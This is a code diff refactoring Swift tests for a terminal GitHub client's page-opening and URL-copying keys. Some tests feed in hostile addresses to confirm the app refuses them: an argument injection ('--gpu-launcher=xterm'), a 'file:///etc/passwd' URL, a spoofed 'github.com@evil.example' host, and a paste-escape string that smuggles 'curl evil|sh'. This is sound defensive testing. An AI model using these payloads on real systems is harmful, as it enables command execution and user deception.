@@ -24,32 +24,23 @@ struct PageKeyTests {
   func `The key opens the page of the selected row, or else of the scene`(
     place: String, text: String, address: String?
   ) async throws {
-    let app = try App()
-    app.start(Route(text: place))
-    try await app.wait(for: text)
-    app.mock.type("o")
-    try await app.wait { app.outside.pages == [address].compactMap { $0 } }
+    let app = try await App().open(Route(text: place), until: text)
+    try await app.type("o") { app.outside.pages == [address].compactMap { $0 } }
     #expect((app.mock.rows[19] == "No web page to open here") == (address == nil))
   }
 
   @Test func `A row that leads to another scene opens the page of that scene`() async throws {
-    let app = try App()
-    app.start(.profile(named: "octocat"))
-    try await app.wait(for: "San Francisco")
+    let app = try await App().open(.profile(named: "octocat"), until: "San Francisco")
     app.mock.press("Down")
-    app.mock.type("o")
-    try await app.wait { app.outside.pages == ["https://github.com/octocat?tab=followers"] }
+    try await app.type("o") { app.outside.pages == ["https://github.com/octocat?tab=followers"] }
   }
 
   @Test(arguments: ["--gpu-launcher=xterm", "file:///etc/passwd", "https://x/\\u001b[201~\\ncurl evil|sh\\n"])
   func `The page of a profile is on the server, whatever address a response contains`(address: String) async throws {
-    let app = try App(replacing: (#""html_url":"https://github.com/octocat""#, by: #""html_url":"\#(address)""#))
-    app.start(.profile(.user(try Login("octocat"))))
-    try await app.wait(for: "San Francisco")
-    app.mock.type("o")
-    try await app.wait { app.outside.pages == ["https://github.com/octocat"] }
-    app.mock.type("y")
-    try await app.wait(for: "Copied https://github.com/octocat,")
+    let app = try await App(replacing: (#""html_url":"https://github.com/octocat""#, by: #""html_url":"\#(address)""#))
+      .open(.profile(.user(try Login("octocat"))), until: "San Francisco")
+    try await app.type("o") { app.outside.pages == ["https://github.com/octocat"] }
+    try await app.type("y", until: "Copied https://github.com/octocat,")
     app.cancel()
   }
 
@@ -65,30 +56,25 @@ struct PageKeyTests {
     let app = try App()
     app.start(Route(text: route))
     try await app.wait { app.hasSelection }
-    app.mock.type(copy.keys)
-    try await app.wait(for: "Copied \(copy.address)")
+    try await app.type(copy.keys, until: "Copied \(copy.address)")
     try await app.end(by: "q")
   }
 
   @Test func `An address that is not one of a web page is not opened, and the footer says so`() async throws {
     let address = "https://github.com@evil.example/"
-    let app = try App(replacing: ("https://example.com/octocat", by: address))
-    app.start(.socialAccounts)
-    try await app.wait(for: "evil.example")
-    app.mock.type("o")
-    try await app.wait(for: "Not a plain http or https URL, so not opened: https://github.com@")
-    app.mock.type("y")
-    try await app.wait(for: "Copied \(address)")
+    let app = try await App(replacing: ("https://example.com/octocat", by: address)).open(
+      .socialAccounts, until: "evil.example")
+    try await app.type("o", until: "Not a plain http or https URL, so not opened: https://github.com@")
+    try await app.type("y", until: "Copied \(address)")
     #expect(app.outside.pages.isEmpty)
     app.cancel()
   }
 
   @Test func `A text with control characters is not copied, and the footer says so`() async throws {
-    let app = try App(replacing: ("https://example.com/octocat", by: #"https://x.example/\u001b[201~\ncurl evil|sh\n"#))
-    app.start(.socialAccounts)
-    try await app.wait(for: "x.example")
-    app.mock.type("y")
-    try await app.wait(for: "Not copied, because of invisible characters in: https")
+    let app = try await App(
+      replacing: ("https://example.com/octocat", by: #"https://x.example/\u001b[201~\ncurl evil|sh\n"#)
+    ).open(.socialAccounts, until: "x.example")
+    try await app.type("y", until: "Not copied, because of invisible characters in: https")
     app.cancel()
   }
 }
